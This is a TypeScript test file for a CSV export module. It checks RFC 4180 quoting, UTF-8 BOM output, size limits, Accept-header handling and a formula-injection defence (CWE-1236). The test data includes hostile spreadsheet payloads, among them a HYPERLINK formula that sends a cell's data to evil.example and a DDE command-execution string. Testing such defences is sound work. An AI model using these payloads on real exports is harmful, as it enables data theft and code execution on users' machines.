import { describe, expect, it } from 'vitest';
import { CSV_MEDIA_TYPE, type CsvSpec, MAX_CSV_LINES } from '../../../contracts/csv/spec';
import {
  csvAnswer,
  csvField,
  csvFile,
  csvHeader,
  csvRow,
  csvText,
  neutralizeFormula,
  wantsCsv,
} from '../../../lambdas/platform/csv';
import { ApiError } from '../../../lambdas/platform/problems';

describe('csvField (RFC 4180)', () => {
  it.each([
    ['plain text as it is', 'TIMEWORK渋谷', 'TIMEWORK渋谷'],
    ['a number', 1234, '1234'],
    ['zero', 0, '0'],
    ['nothing (null) as an empty field', null, ''],
    ['nothing (undefined) as an empty field', undefined, ''],
    ['an empty string as an empty field', '', ''],
    ['spaces kept, unquoted', '  道玄坂 1-1 ', '  道玄坂 1-1 '],
    ['a comma quoted', '渋谷区,道玄坂', '"渋谷区,道玄坂"'],
    ['a quote doubled and quoted', 'the "best" desk', '"the ""best"" desk"'],
    ['only a quote', '"', '""""'],
    ['a LF quoted', 'line 1\nline 2', '"line 1\nline 2"'],
    ['a CR quoted', 'line 1\rline 2', '"line 1\rline 2"'],
    ['a CRLF quoted', 'line 1\r\nline 2', '"line 1\r\nline 2"'],
    ['everything at once', 'a,"b"\r\nc', '"a,""b""\r\nc"'],
    ['a Japanese comma (、) unquoted', '東京都、渋谷区', '東京都、渋谷区'],
    ['a semicolon quoted (a list separator in some locales)', 'a;=1+2', '"a;=1+2"'],
    ['a negative number as it is', -500, '-500'],
  ])('writes %s', (_, cell, field) => {
    expect(csvField(cell)).toBe(field);
  });
});

describe('csvText', () => {
  const lines = [
    ['施設ID', '施設名', '連絡先'],
    ['tw-shibuya', 'TIMEWORK渋谷', '03-0000-0000'],
    ['h1t-kudanshita', 'H1T "九段下"', null],
  ];

  it('is a UTF-8 BOM, then each line with CRLF, fields quoted where they must be', () => {
    expect(csvText(lines)).toBe(
      '\uFEFF施設ID,施設名,連絡先\r\ntw-shibuya,TIMEWORK渋谷,03-0000-0000\r\nh1t-kudanshita,"H1T ""九段下""",\r\n',
    );
  });

  it('starts with the bytes EF BB BF in UTF-8, and the Japanese header is UTF-8', () => {
    const bytes = Buffer.from(csvText(lines), 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3, 3 + Buffer.byteLength('施設ID')).toString('utf8')).toBe('施設ID');
  });

  it('ends every line with CRLF and has no bare LF outside quoted fields', () => {
    const text = csvText(lines);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(lines.length + 1);
    expect(/[^\r]\n/.test(text)).toBe(false);
  });

  it('keeps a line break inside a quoted field, in one line of the file', () => {
    const text = csvText([['説明'], ['一行目\n二行目']]);
    expect(text).toBe('\uFEFF説明\r\n"一行目\n二行目"\r\n');
  });

  it(`writes ${MAX_CSV_LINES} lines (the header among them), and refuses one more with 422 EXPORT_TOO_LARGE`, () => {
    const many = (n: number) => Array.from({ length: n }, (_, i) => [`row ${i}`]);
    expect(csvText(many(MAX_CSV_LINES)).split('\r\n')).toHaveLength(MAX_CSV_LINES + 1);
    let refused: unknown;
    try {
      csvText(many(MAX_CSV_LINES + 1));
    } catch (error) {
      refused = error;
    }
    expect(refused).toBeInstanceOf(ApiError);
    expect(refused).toMatchObject({ code: 'EXPORT_TOO_LARGE', status: 422 });
  });

  it('writes a file of only its header when the list is empty', () => {
    expect(csvText([['施設ID', '施設名']])).toBe('\uFEFF施設ID,施設名\r\n');
  });
});

describe('csvAnswer and csvFile', () => {
  interface Item {
    id: string;
    name: string;
    seats: number | null;
  }
  const spec: CsvSpec<Item> = {
    fileName: 'things',
    columns: [
      { header: 'ID', type: 'text', cell: (i) => i.id },
      { header: '名前', type: 'text', cell: (i) => i.name },
      { header: '席数', type: 'number', cell: (i) => i.seats },
    ],
  };
  const csv = csvAnswer(spec, (answer: { items: Item[] }) => answer.items);
  const answer = {
    items: [
      { id: 'a', name: '会議室, A', seats: 4 },
      { id: 'b', name: 'ブース', seats: null },
    ],
  };

  it('makes the header line of the spec, then one line per item in its order', () => {
    expect(csv.lines(answer)).toEqual([
      ['ID', '名前', '席数'],
      ['a', '会議室, A', 4],
      ['b', 'ブース', null],
    ]);
  });

  it('answers text/csv; charset=utf-8 as an attachment named after the list', () => {
    const file = csvFile(csv, answer);
    expect(file.headers).toEqual({
      'content-type': CSV_MEDIA_TYPE,
      'content-disposition': 'attachment; filename="things.csv"',
    });
    expect(CSV_MEDIA_TYPE).toBe('text/csv; charset=utf-8');
    expect(file.body).toBe('\uFEFFID,名前,席数\r\na,"会議室, A",4\r\nb,ブース,\r\n');
  });
});

describe('neutralizeFormula (CWE-1236)', () => {
  it.each([
    ['=', '=HYPERLINK("https://evil.example/?"&A1,"詳細")'],
    ['+ (a phone number Excel would add up)', '+81-3-1234-5678'],
    ['-', '-500'],
    ['@', '@SUM(A1:A9)'],
    ['DDE', "=cmd|' /C calc'!A0"],
    ['tab', '\t=1+2'],
    ['CR', '\r=1+2'],
    ['LF', '\n=1+2'],
    ['NUL', '\u0000=1+2'],
    ['spaces before =', '  =1+2'],
    ['an ideographic space before =', '\u3000=1+2'],
    ['full-width ＝', '＝1+2'],
    ['full-width ＋', '＋81-3-1234-5678'],
    ['full-width －', '－500'],
    ['full-width ＠', '＠SUM(A1:A9)'],
  ])('puts a quote before text starting with %s', (_, text) => {
    expect(neutralizeFormula(text)).toBe(`'${text}`);
  });

  it.each([
    'TIMEWORK渋谷',
    '株式会社+Style',
    '03-1234-5678',
    'a=b',
    '1+1',
    'R-2447-7582-6513',
    'TW000123',
    "'quoted already",
    ' 道玄坂 1-1',
    '',
  ])('leaves %j as it is', (text) => {
    expect(neutralizeFormula(text)).toBe(text);
  });
});

describe('csvRow (cells by column type)', () => {
  interface Line {
    company: string | null;
    phone: string;
    amount: number | null;
    day: string | null;
    at: string | null;
  }
  const spec: CsvSpec<Line> = {
    fileName: 'lines',
    columns: [
      { header: '利用企業', type: 'text', cell: (l) => l.company },
      { header: '連絡先', type: 'text', cell: (l) => l.phone },
      { header: '金額', type: 'number', cell: (l) => l.amount },
      { header: '利用日', type: 'date', cell: (l) => l.day },
      { header: '入館', type: 'dateTime', cell: (l) => l.at },
    ],
  };
  const hostile: Line = {
    company: '=HYPERLINK("https://evil.example/?"&A1,"詳細")',
    phone: '+81-3-1234-5678',
    amount: -500,
    day: '2026/11/24',
    at: '2026/11/24 14:00',
  };

  it('neutralizes text cells and leaves numbers and dates as they are', () => {
    expect(csvRow(spec, hostile)).toEqual([
      '\'=HYPERLINK("https://evil.example/?"&A1,"詳細")',
      "'+81-3-1234-5678",
      -500,
      '2026/11/24',
      '2026/11/24 14:00',
    ]);
  });

  it('writes the file with the quote inside the RFC 4180 quoting, and -500 as a bare number', () => {
    expect(csvText([csvHeader(spec), csvRow(spec, hostile)])).toBe(
      '\uFEFF利用企業,連絡先,金額,利用日,入館\r\n' +
        '"\'=HYPERLINK(""https://evil.example/?""&A1,""詳細"")",\'+81-3-1234-5678,-500,2026/11/24,2026/11/24 14:00\r\n',
    );
  });

  it('writes nothing as empty cells in every type', () => {
    const empty: Line = { company: null, phone: '', amount: null, day: null, at: null };
    expect(csvRow(spec, empty)).toEqual([null, '', null, null, null]);
  });

  it('refuses a number column cell that is not a finite number (no text through a number column)', () => {
    const asText = { ...hostile, amount: '=1+2' as unknown as number };
    expect(() => csvRow(spec, asText)).toThrow('金額 is a number column');
    expect(() => csvRow(spec, { ...hostile, amount: Number.NaN })).toThrow('金額 is a number column');
    expect(() => csvRow(spec, { ...hostile, amount: Number.POSITIVE_INFINITY })).toThrow('金額 is a number column');
  });

  it('refuses a date or date-time cell not in the site format', () => {
    expect(() => csvRow(spec, { ...hostile, day: '2026-11-24' })).toThrow('利用日 is a date column');
    expect(() => csvRow(spec, { ...hostile, day: '=1+2' })).toThrow('利用日 is a date column');
    expect(() => csvRow(spec, { ...hostile, at: '2026-11-24T14:00:00+09:00' })).toThrow('入館 is a dateTime column');
  });

  it('is what csvAnswer writes for each item', () => {
    const csv = csvAnswer(spec, (answer: { items: Line[] }) => answer.items);
    expect(csv.lines({ items: [hostile] })).toEqual([csvHeader(spec), csvRow(spec, hostile)]);
  });
});

describe('wantsCsv (Accept)', () => {
  it.each([
    [undefined, false],
    ['', false],
    ['*/*', false],
    ['application/json', false],
    ['application/xml', false],
    ['text/csv', true],
    ['TEXT/CSV', true],
    ['text/csv; charset=utf-8', true],
    ['text/*', true],
    ['text/csv, */*', true],
    ['text/csv, */*;q=0.8', true],
    ['application/json, text/csv', false],
    ['text/csv, application/json', false],
    ['text/csv;q=0.5, application/json', false],
    ['application/json;q=0.5, text/csv', true],
    ['application/*;q=0.9, text/csv', true],
    ['text/csv;q=0', false],
    ['text/csv;q=0, */*', false],
    ['text/csv;q=zero', false],
  ])('%j → CSV %s', (accept, csv) => {
    expect(wantsCsv(accept)).toBe(csv);
  });
});
